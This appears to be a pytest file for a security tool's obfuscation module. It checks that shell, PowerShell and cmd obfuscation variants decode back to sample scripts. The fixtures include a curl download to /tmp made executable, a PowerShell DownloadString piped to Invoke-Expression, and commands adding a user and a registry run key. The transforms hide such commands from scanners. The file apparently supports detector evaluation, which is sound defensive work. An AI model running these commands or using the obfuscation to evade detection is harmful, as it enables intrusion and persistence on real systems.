"""Framework-style obfuscation: every variant, undone, is the original script; seeded output.

Shell variants are undone by bash itself with `eval` replaced by `printf %s` (the text is
only printed, never run); PowerShell and cmd variants by reading them back in Python.
"""

from __future__ import annotations

import base64
import fnmatch
import re
import shutil
import subprocess

import pytest

from inspector.evaluation_obfuscation import STACKED, STANDARD_BINARIES, TRANSFORMS, transform_names, variant
from tests.timing import GIVE_UP_S

SHELL = "curl -s http://203.0.113.9/a.sh -o /tmp/a.sh\nchmod +x /tmp/a.sh && echo 'it''s' \"$HOME\"\n"
POWERSHELL = ("$w = New-Object Net.WebClient # a comment\n"
              "Invoke-Expression $w.DownloadString('http://203.0.113.9/a') ; Start-Process -WindowStyle Hidden x\n")
CMD = "@echo off\r\nnet user helper P@ss1 /add\r\nreg add HKCU\\Software\\X /v run /d \"c:\\a b\\x.exe\" /f\r\n"


def printed_by_bash(script: str) -> str:
    """What the variant would have run: bash expands it, `printf %s` prints instead of running."""
    script = script.replace("eval ", "printf %s ", 1).replace("' | bash\n", "'\n")
    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=GIVE_UP_S)
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is needed to read shell variants back")
@pytest.mark.parametrize("name", ["char_array", "printf_octal", "printf_hex", "ansi_c"])
def test_shell_variants_expand_to_the_original(name: str) -> None:
    obfuscated = variant(SHELL, "shell", name, seed=7)
    assert "curl" not in obfuscated
    # (command substitution drops trailing newlines, which changes nothing a shell runs)
    assert printed_by_bash(obfuscated).rstrip("\n") == SHELL.rstrip("\n")


def test_glob_paths_name_the_standard_binary_and_no_other() -> None:
    obfuscated = variant(SHELL, "shell", "glob_paths", seed=7)
    for original, line in zip(SHELL.splitlines(), obfuscated.splitlines(), strict=True):
        program, rest = original.split(" ", 1)
        glob, rest_after = line.split(" ", 1)
        assert "?" in glob and program not in glob and rest_after == rest
        assert [p for p in STANDARD_BINARIES.values() if fnmatch.fnmatchcase(p, glob)] == [f"/usr/bin/{program}"]


def ps_chunks_decoded(script: str) -> str:
    chunks = re.findall(r"^\$\w+ = '([A-Za-z0-9+/=]+)'$", script, flags=re.MULTILINE)
    return base64.b64decode("".join(chunks)).decode("utf-16-le")


def test_chunked_base64_spreads_the_script_across_junk_variables_between_dead_code() -> None:
    obfuscated = variant(POWERSHELL, "powershell", "chunked_base64", seed=3)
    assert "DownloadString" not in obfuscated and "FromBase64String" in obfuscated
    assert len(re.findall(r"^\$\w+ = '[A-Za-z0-9+/=]+'$", obfuscated, flags=re.MULTILINE)) >= 3
    assert ps_chunks_decoded(obfuscated) == POWERSHELL


def ps_literals(expression: str) -> list[str]:
    return [m.replace("''", "'") for m in re.findall(r"'((?:[^']|'')*)'", expression)]


def test_concatenation_format_and_char_codes_rebuild_the_script() -> None:
    concat = variant(POWERSHELL, "powershell", "concat", seed=1)
    assert "".join(ps_literals(concat)) == POWERSHELL
    formatted = variant(POWERSHELL, "powershell", "format", seed=1)
    template, *pieces = ps_literals(formatted)
    assert re.sub(r"\{(\d+)\}", lambda m: pieces[int(m.group(1))], template) == POWERSHELL
    codes = variant(POWERSHELL, "powershell", "char_codes", seed=1)
    assert "".join(chr(int(c)) for c in re.findall(r"\d+", codes.split("]](", 1)[1])) == POWERSHELL


def test_ticks_only_go_where_powershell_ignores_them() -> None:
    ticked = variant(POWERSHELL, "powershell", "ticks", seed=2)
    assert "`" in ticked and ticked.replace("`", "") == POWERSHELL
    assert "'http://203.0.113.9/a'" in ticked and "# a comment" in ticked and "$w.DownloadString" in ticked


def cmd_without_carets(script: str) -> str:
    out, quoted = [], False
    for ch in script:
        quoted ^= ch == '"'
        out.append("" if ch == "^" and not quoted else ch)
    return "".join(out)


def cmd_expanded(script: str) -> str:
    values = dict(re.findall(r'^@set "(\w+)=(.*)"\r?\n', script, flags=re.MULTILINE))
    body = re.sub(r'^@set "\w+=.*"\r?\n', "", script, flags=re.MULTILINE)

    def substitute(match: re.Match[str]) -> str:
        value = values[match.group(1)]
        if match.group(2) is None:
            return value
        return value[int(match.group(2)): int(match.group(2)) + int(match.group(3))]

    return re.sub(r"%(\w+)(?::~(\d+),(\d+))?%", lambda m: substitute(m) if m.group(1) in values else m.group(0), body)


def test_cmd_carets_substrings_and_set_chains_read_back_to_the_original() -> None:
    carets = variant(CMD, "cmd", "carets", seed=4)
    assert "^" in carets and cmd_without_carets(carets) == CMD
    assert '"c:\\a b\\x.exe"' in carets  # nothing inside quotes
    substrings = variant(CMD, "cmd", "substrings", seed=4)
    assert ":~" in substrings and cmd_expanded(substrings) == CMD
    chained = variant(CMD, "cmd", "set_chain", seed=4)
    assert "net user" not in chained.split("@echo off")[1] and cmd_expanded(chained) == CMD


def test_stacked_transforms_apply_both_in_order() -> None:
    stacked = variant(CMD, "cmd", "carets+set_chain", seed=5)
    assert cmd_without_carets(cmd_expanded(stacked)) == CMD
    ps = variant(POWERSHELL, "powershell", "ticks+chunked_base64", seed=5)
    assert ps_chunks_decoded(ps).replace("`", "") == POWERSHELL


def test_variants_are_deterministic_for_a_seed_and_differ_across_seeds() -> None:
    for language, text in (("shell", SHELL), ("powershell", POWERSHELL), ("cmd", CMD)):
        for name in transform_names(language):
            assert variant(text, language, name, seed=11) == variant(text, language, name, seed=11)
    assert variant(POWERSHELL, "powershell", "chunked_base64", 1) != variant(POWERSHELL, "powershell",
                                                                             "chunked_base64", 2)


def test_every_language_has_transforms_and_stacks_of_known_ones() -> None:
    for language, stacks in STACKED.items():
        for stack in stacks:
            assert all(step in TRANSFORMS[language] for step in stack.split("+"))
    with pytest.raises(KeyError):
        variant("x", "shell", "nope", 0)
